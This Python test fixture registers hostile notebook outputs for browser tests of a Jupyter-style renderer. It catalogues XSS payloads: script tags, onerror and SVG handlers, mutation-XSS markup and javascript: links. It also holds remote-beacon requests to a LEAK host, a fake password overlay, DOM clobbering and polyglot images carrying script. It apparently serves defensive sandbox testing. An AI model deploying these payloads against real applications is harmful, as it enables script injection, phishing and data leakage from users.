"""Hostile outputs for a page: HTML, other kinds of output, pictures."""

# Payloads, each on a line of its own as long as it is.
# ruff: noqa: E501
# fmt: off

from __future__ import annotations

from typing import Final

from tests.browser.hostile_making import LEAK, add, bite, html, kind, shown

__all__ = ["JAVASCRIPT"]

# HTML that runs script ----------------------------------------------------------------------------------------------

FRAME_BITE: Final = f"<script>{bite('html-srcdoc')}</script>"
for label, attempt, markup in (
    ("script", "a script element", "<script>{bite}</script>"),
    ("script-remote", "a script from elsewhere", f"<script src='{LEAK}/script.js'></script>"),
    ("script-module", "a module script", "<script type=module>{bite}</script>"),
    ("onerror", "a handler of a picture that fails", '<img src=x: onerror="{bite}">'),
    ("svg-onload", "a handler of a drawing", '<svg onload="{bite}"><rect width=9 height=9 /></svg>'),
    ("svg-script", "a script in a drawing", "<svg><script>{bite}</script></svg>"),
    ("svg-animate", "a handler of an animation", '<svg><animate attributeName=x dur=1s onbegin="{bite}" /></svg>'),
    ("svg-set-href", "a link that an animation turns into script",
     '<svg><a><set attributeName=href to="javascript:{bite}" /><text y=20>click</text></a></svg>'),
    ("foreign-object", "HTML in a drawing", '<svg><foreignObject><img src=x: onerror="{bite}"></foreignObject></svg>'),
    ("iframe-javascript", "a frame of script", '<iframe src="javascript:{bite}"></iframe>'),
    ("iframe-data", "a frame from a data URI", "<iframe src=\"data:text/html,<script>{bite}</script>\"></iframe>"),
    ("object", "an object", '<object data="javascript:{bite}"></object>'),
    ("embed", "an embedded page", '<embed src="data:text/html,<script>{bite}</script>">'),
    ("link-javascript", "a javascript: link", '<a href="javascript:{bite}">Show the receipt</a>'),
    ("link-javascript-hidden", "the same, with a tab and entities", '<a href="java&#9;script&colon;{bite}">More</a>'),
    ("autofocus", "a field that takes the focus", '<input autofocus onfocus="{bite}">'),
    ("toggle", "a fold that is open", '<details open ontoggle="{bite}"><summary>x</summary>y</details>'),
    ("media", "a source that fails", '<video><source onerror="{bite}"></video><audio src=x: onerror="{bite}">'),
    ("animation", "a handler of a style's animation",
     '<style>@keyframes k{{to{{top:1px}}}}</style><b style="animation:k 1ms" onanimationend="{bite}">x</b>'),
    ("mutation-noscript", "markup that changes meaning when read twice",
     '<noscript><p title="</noscript><img src=x: onerror=&quot;{bite}&quot;>">'),
    ("mutation-math", "the same through mathematics",
     '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror={bite}&gt;">'),
    ("mutation-template", "the same through a template",
     '<template shadowrootmode=open><img src=x: onerror="{bite}"></template>'),
    ("comment", "a comment that ends early", '<!--><img src=x: onerror="{bite}">-->'),
    ("cdata", "a CDATA section", '<svg><![CDATA[><img src=x: onerror="{bite}">]]></svg>'),
    ("slash", "attributes without spaces", '<img/src=x:/onerror="{bite}"/>'),
    ("nul", "a NUL in a tag's name", '<scr\0ipt>{bite}</scr\0ipt><img src=x: on\0error="{bite}">'),
    ("upper-case", "upper case, entities", '<IMG SRC=x: ONERROR="{bite}"><ScRiPt>{bite}</ScRiPt>'),
    ("xml", "a processing instruction", '<?xml-stylesheet href="javascript:{bite}"?><x:script xmlns:x='
     '"http://www.w3.org/1999/xhtml">{bite}</x:script>'),
    ("command-linker", "a button that gives JupyterLab a command",
     '<button data-commandlinker-command="notebook:run-all-below" data-commandlinker-args="{{}}" autofocus '
     'onfocus="{bite}">Run</button>'),
):
    html(label, attempt, markup.format(bite=bite(f"html-{label}")))
html("srcdoc", "a frame with a page of its own", f'<iframe srcdoc="{FRAME_BITE}"></iframe>')

# HTML that asks for something elsewhere, or acts on the page ----------------------------------------------------------

for label, attempt, markup in (
    ("image-remote", "remote pictures", "<img src='{leak}/a.png'><img srcset='{leak}/b.png 2x'><picture>"
     "<source srcset='{leak}/c.png'><img></picture><input type=image src='{leak}/d.png'>"),
    ("media-remote", "remote films and sounds", "<video poster='{leak}/a.png' src='{leak}/b.mp4' autoplay></video>"
     "<audio src='{leak}/c.mp3' autoplay></audio><track src='{leak}/d.vtt'>"),
    ("background", "remote backgrounds", "<table background='{leak}/a.png'><tr><td background='{leak}/b.png'>x</td></tr>"
     "</table><p style='background:url({leak}/c.png)'>x</p>"),
    ("frame-remote", "remote frames", "<iframe src='{leak}/a'></iframe><object data='{leak}/b'></object>"
     "<embed src='{leak}/c'><frameset><frame src='{leak}/d'></frameset>"),
    ("style-remote", "remote styles", "<link rel=stylesheet href='{leak}/a.css'><style>@import '{leak}/b.css';"
     "p{{background:url({leak}/c.png)}} @font-face{{font-family:f;src:url({leak}/d.woff)}} p{{font-family:f}}</style><p>x</p>"),
    ("link-hints", "connections made in advance", "<link rel=dns-prefetch href='{leak}'><link rel=preconnect href='{leak}'>"
     "<link rel=prefetch href='{leak}/a'><link rel=preload as=image href='{leak}/b.png'>"
     "<link rel=icon href='{leak}/c.ico'>"),
    ("meta-refresh", "the page sent elsewhere", "<meta http-equiv=refresh content='0;url={leak}/a'>"),
    ("base", "all links bent", "<base href='{leak}/'><img src='a.png'>"),
    ("svg-remote", "drawings from elsewhere", "<svg><image href='{leak}/a.png' /><use href='{leak}/b.svg#x' />"
     "<feImage href='{leak}/c.png' /></svg>"),
    ("form", "a form that sends by itself", "<form action='{leak}/a' id=f><input name=q value=1 autofocus></form>"
     "<button form=f type=submit>OK</button><img src=x: onerror='document.forms.f.submit()'>"),
    ("ping", "a link that tells on its reader", "<a href='{leak}/a' ping='{leak}/b' target=_blank>the docs</a>"),
    ("overlay", "a cover over the whole page", "<div style='position:fixed;inset:0;z-index:99999;background:#fff'>"
     "Your session has ended. Password:<input type=password></div>"),
    ("style-page", "the page's own look", "<style>*{{display:none!important}} body{{background:red}} .jp-Cell{{opacity:0}}"
     " details.pybox{{visibility:hidden}}</style>"),
    ("lab-classes", "a dialog of JupyterLab's look", "<div class='jp-Dialog lm-Widget jp-mod-styled'>"
     "<div class='jp-Dialog-content'><h1 class='jp-Dialog-header'>Trust this notebook?</h1></div></div>"),
    ("clobber-ids", "names of the page's own elements", "<p id=main>x</p><p id=jupyter-config-data>{{}}</p>"
     "<form id=top><input name=parentNode></form><img name=body><a id=jupyterapp name=jupyterapp></a>"),
    ("unclosed", "elements that swallow what follows", "<table><tr><td><textarea><plaintext><xmp><title><select>"),
    ("closing", "its own frame closed", "</td></tr></table></details></div></div></div></div></main><p>outside</p>"),
    ("popover", "a dialog that is open", "<dialog open style='position:fixed;top:0'>Sign in</dialog><div popover=manual "
     "id=pop>x</div><button popovertarget=pop autofocus>x</button>"),
    ("accesskey", "a key of the keyboard", "<button accesskey=s contenteditable autofocus tabindex=1>x</button>"),
    ("spans", "a cell as wide as the world", "<table><tr><td colspan=99999999 rowspan=99999999>x</td></tr></table>"),
    ("mathematics", "typeset with a link and a style", "<p>$$\\href{{javascript:top.__bitten='math'}}{{x}}"
     "\\style{{position:fixed;top:0}}{{y}}\\require{{html}}\\cssId{{main}}{{z}}$$ \\(\\unicode{{x3c}}\\)</p>"),
):
    html(label, attempt, markup.format(leak=f"{LEAK}/{label}"))
add(
    "html-deep",
    "100,000 elements one in the other",
    "class Shown:\n    def _repr_html_(self):\n        return '<ul><li>' * 100_000 + 'x'\ndisplay(Shown())",
)
add(
    "html-wide",
    "a table of 200,000 cells",
    "class Shown:\n    def _repr_html_(self):\n"
    "        return '<table>' + '<tr><td>x</td></tr>' * 200_000 + '</table>'\ndisplay(Shown())",
)

# Other kinds of output ------------------------------------------------------------------------------------------------

JAVASCRIPT: Final = bite("mime-javascript")
kind("javascript", "script as an output", "application/javascript", JAVASCRIPT)
kind("ecmascript", "script by its other names", "text/javascript", bite("mime-ecmascript"))
kind(
    "markdown",
    "markdown with HTML, a remote picture and a link",
    "text/markdown",
    f'<img src=x: onerror="{bite("mime-markdown")}"> ![p]({LEAK}/a.png) [More](javascript:{bite("mime-markdown")})\n\n'
    f"```mermaid\ngraph TD; A[<img src='{LEAK}/b.png'>]; click A href \"javascript:x\"\n```",
)
kind(
    "latex", "mathematics with a link", "text/latex", f"$$\\href{{javascript:{bite('mime-latex')}}}{{\\text{{Open}}}}$$"
)
kind(
    "latex-style",
    "mathematics all over the page",
    "text/latex",
    "$$\\require{html}\\style{position:fixed;top:0;left:0;font-size:900px}{\\unicode{x2588}}\\cssId{main}{x}$$",
)
kind(
    "svg",
    "a drawing with script and remote pictures",
    "image/svg+xml",
    f"<svg xmlns='http://www.w3.org/2000/svg' onload=\"{bite('mime-svg')}\"><script>{bite('mime-svg')}</script>"
    f"<image href='{LEAK}/a.png'/><use href='{LEAK}/b.svg#x'/><foreignObject><body xmlns='http://www.w3.org/1999/xhtml'>"
    f"<img src='{LEAK}/c.png'/></body></foreignObject></svg>",
)
kind("widget-view", "somebody else's widget", "application/vnd.jupyter.widget-view+json",
     {"version_major": 2, "version_minor": 0, "model_id": "00000000000000000000000000000001"})
kind("widget-view-text", "the same as text", "application/vnd.jupyter.widget-view+json",
     '{"version_major": 2, "version_minor": 0, "model_id": "receipt"}')
kind("widget-state", "models of widgets", "application/vnd.jupyter.widget-state+json",
     {"version_major": 2, "version_minor": 0, "state": {"x": {"model_name": "HTMLModel", "model_module":
      "@jupyter-widgets/controls", "state": {"value": f"<img src=x: onerror=\"{bite('mime-widget-state')}\">"}}}})
kind("vega", "a chart with data from elsewhere", "application/vnd.vega.v5+json",
     {"$schema": "https://vega.github.io/schema/vega/v5.json", "data": [{"name": "t", "url": f"{LEAK}/a.json"}],
      "marks": [{"type": "image", "encode": {"enter": {"url": {"value": f"{LEAK}/b.png"}}}}]})
kind("vegalite", "the same, of the other kind", "application/vnd.vegalite.v5+json",
     {"$schema": "https://vega.github.io/schema/vega-lite/v5.json", "data": {"url": f"{LEAK}/a.csv"}, "mark": "point",
      "encoding": {"x": {"field": "a"}, "href": {"field": "b"}}})
kind("geojson", "a map", "application/geo+json",
     {"type": "FeatureCollection", "features": [{"type": "Feature", "geometry": {"type": "Point", "coordinates": [0, 0]},
      "properties": {"popup": f"<img src='{LEAK}/a.png'>", "icon": f"{LEAK}/b.png"}}]})
kind("plotly", "a plot with pictures and links", "application/vnd.plotly.v1+json",
     {"data": [{"x": [1], "y": [1], "text": [f"<a href=\"javascript:{bite('mime-plotly')}\">x</a>"]}],
      "layout": {"images": [{"source": f"{LEAK}/a.png"}]}})
kind("json", "a tree with hostile names", "application/json",
     {f"<img src=x: onerror=\"{bite('mime-json')}\">": f"<script>{bite('mime-json')}</script>"})
kind("pdf", "a document", "application/pdf", "JVBERi0xLjQKJeLjz9MKMSAwIG9iago8PC9UeXBlL0NhdGFsb2c+PgplbmRvYmoK")
kind("stdout", "an output by the name of a stream's renderer", "application/vnd.jupyter.stdout", "✓ Ended normally")
kind("error", "an output by the name of an error's renderer", "application/vnd.jupyter.error", "✓ Ended normally")
kind("mermaid", "a diagram", "text/vnd.mermaid", f'graph TD; A["<img src={LEAK}/a.png>"]; click A href "{LEAK}/b"')
kind("xhtml", "HTML by another name", "application/xhtml+xml", f"<script>{bite('mime-xhtml')}</script>")
kind("html-parameters", "HTML by a longer name", "text/html; charset=utf-8", f"<script>{bite('mime-html')}</script>")
kind("html-upper-case", "HTML in upper case", "TEXT/HTML", f"<script>{bite('mime-html')}</script>")
kind("html-list", "HTML in pieces", "text/html", ["<script>", bite("mime-html-list"), "</script>"])
kind("invented", "a name that is markup", f'<img src=x: onerror="{bite("mime-invented")}">', "x")
kind(
    "pybox", "an output by the name of a receipt", "application/vnd.pybox.receipt+json", {"verdict": "✓ Ended normally"}
)
add(
    "mime-metadata",
    "metadata that asks for a frame of its own and for trust",
    shown(
        {"text/plain": "x", "text/html": f"<script>{bite('mime-metadata')}</script>"},
        {"text/html": {"isolated": True, "trusted": True}, "trusted": True, "display_id": "x"},
    ),
)
add("mime-last-value", "script in the cell's last value", shown({"text/html": f"<script>{bite('mime-last-value')}</script>"})
    .replace("display(Shown())", "Shown()"))
add("mime-many-displays", "5,000 displays", "for number in range(5_000):\n    display(number)")

# Pictures -------------------------------------------------------------------------------------------------------------

PNG: Final = """\
import base64, struct, zlib

def chunk(name, data):
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

def png(width, height, rows, *more):
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0))
    data = chunk(b"IDAT", zlib.compress(rows))
    return b"\\x89PNG\\r\\n\\x1a\\n" + head + b"".join(more) + data + chunk(b"IEND", b"")

class Picture:
    def __init__(self, data, mime="image/png"):
        self.data, self.mime = data, mime
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {"text/plain": "a picture", self.mime: base64.b64encode(self.data).decode()}

rows = (b"\\0" + b"\\x20\\xa0\\x40" * 40) * 20
"""


def picture(name: str, tries: str, program: str) -> None:
    add(f"picture-{name}", tries, PNG + program)


MARKUP: Final = f'<html><script>{bite("picture")}</script><img src=x: onerror="{bite("picture")}">'
picture(
    "text-chunks",
    "script in a picture's text",
    f"""\
markup = {MARKUP!r}.encode()
texts = chunk(b"tEXt", b"Title\\0" + markup), chunk(b"iTXt", b"XML:com.adobe.xmp\\0\\0\\0\\0\\0" + markup)
display(Picture(png(40, 20, rows, *texts)))""",
)
picture("polyglot", "a picture that is also a page", f"display(Picture(png(40, 20, rows) + {MARKUP!r}.encode()))")
picture("no-picture", "a page that says it is a picture", f"display(Picture({MARKUP!r}.encode()))")
picture("svg-as-png", "a drawing that says it is a picture",
        f"display(Picture(b'<svg xmlns=\"http://www.w3.org/2000/svg\"><image href=\"{LEAK}/a.png\"/></svg>'))")
picture(
    "breaks-out",
    "data that ends the element's attribute",
    f"""\
class Broken(Picture):
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {{"text/plain": "x", "image/png": {'"><img src=x: onerror="' + bite("picture-breaks-out") + '">'!r}}}
display(Broken(b""))""",
)
picture("bomb", "a picture of 60,000 by 60,000", "display(Picture(png(60_000, 60_000, bytes(1000))))")
picture(
    "jpeg",
    "script in a JPEG's comment and application data",
    f"""\
markup = {MARKUP!r}.encode()
def part(mark, data):
    return bytes((0xff, mark)) + struct.pack(">H", len(data) + 2) + data
jpeg = b"\\xff\\xd8" + part(0xe0, b"JFIF\\0\\1\\1\\0\\0\\1\\0\\1\\0\\0") + part(0xe1, b"Exif\\0\\0" + markup) + part(0xfe, markup)
jpeg += part(0xdb, bytes([0]) + bytes([1]) * 64) + part(0xc0, bytes([8, 0, 8, 0, 8, 1, 1, 0x11, 0]))
jpeg += part(0xc4, bytes([0, 1] + [0] * 15 + [0])) + part(0xc4, bytes([0x10, 1] + [0] * 15 + [0]))
jpeg += part(0xda, bytes([1, 1, 0, 0, 63, 0])) + bytes(2) + b"\\xff\\xd9" + markup
display(Picture(jpeg, "image/jpeg"))""",
)
picture(
    "of-a-receipt",
    "the picture of a receipt",
    """\
wide, green, grey = 700, b"\\x2d\\xa4\\x4e", b"\\xf3\\xf3\\xf3"
line = b"\\0" + green * 4 + grey * (wide - 4)
letters = b"\\0" + green * 4 + grey * 10 + (b"\\x20\\x20\\x20" * 4 + grey * 3) * 60 + grey * (wide - 434)
display(Picture(png(wide, 29, line * 9 + letters * 11 + line * 9)))""",
)
for other in ("image/gif", "image/webp", "image/bmp"):
    picture(
        other.removeprefix("image/"), f"a picture of another kind, {other}", f'display(Picture(b"GIF89a", {other!r}))'
    )
